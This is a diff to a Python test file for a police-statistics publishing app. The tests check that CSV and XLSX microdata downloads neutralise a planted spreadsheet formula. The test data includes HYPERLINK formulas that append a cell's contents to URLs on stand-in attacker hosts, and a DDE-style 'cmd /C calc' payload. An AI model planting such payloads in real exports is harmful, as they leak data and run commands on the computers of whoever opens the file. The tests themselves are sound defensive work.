@@ -25,6 +25,8 @@ from tests.conftest import verified_login
 from tests.factories import CaseFactory, make_user
 
 FORMULA = '=HYPERLINK("http://aanvaller.invalid/?"&A1,"klik")'
+# A unit code holds at most 40 characters (PostgreSQL enforces it; SQLite does not).
+CODE_FORMULA = '=HYPERLINK("a.invalid/"&A1,"k")'
 CMD = "@SUM(1+1)*cmd|' /C calc'!A0"
 DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
 
@@ -80,8 +82,8 @@ def test_the_microdata_csv_neutralises_a_planted_unit_code(client):
     from inbeeld.publication import agreement
     from inbeeld.publication.services import data_use_agreement_accept, microdata_policy_set
 
-    PoliceUnit.objects.filter(code="amsterdam").update(code=FORMULA)
-    planted = PoliceUnit.objects.get(code=FORMULA)
+    PoliceUnit.objects.filter(code="amsterdam").update(code=CODE_FORMULA)
+    planted = PoliceUnit.objects.get(code=CODE_FORMULA)
     for _ in range(5):  # five alike: the unit survives k = 5 as it is
         CaseFactory(police_unit=planted)
     microdata_policy_set(actor=make_user(Role.ADMINISTRATOR), k=5, l_diversity=1)
@@ -91,7 +93,7 @@ def test_the_microdata_csv_neutralises_a_planted_unit_code(client):
     response = client.get(reverse("reports:microdata", args=["csv"]))
     assert response.status_code == 200
     cells = _cells(response.content.decode("utf-8"))
-    assert "'" + FORMULA in cells  # the unit arrives, as text
+    assert "'" + CODE_FORMULA in cells  # the unit arrives, as text
     _assert_no_formula(cells)
     # The XLSX download stores it as text, never as a formula.
     response = client.get(reverse("reports:microdata", args=["xlsx"]))
@@ -99,7 +101,7 @@ def test_the_microdata_csv_neutralises_a_planted_unit_code(client):
     types = {cell.data_type for row in book["Microdata"].iter_rows() for cell in row}
     assert "f" not in types
     values = [c.value for row in book["Microdata"].iter_rows() for c in row]
-    assert "'" + FORMULA in values
+    assert "'" + CODE_FORMULA in values
 
 
 def test_the_ctdc_writer_neutralises_text_cells():
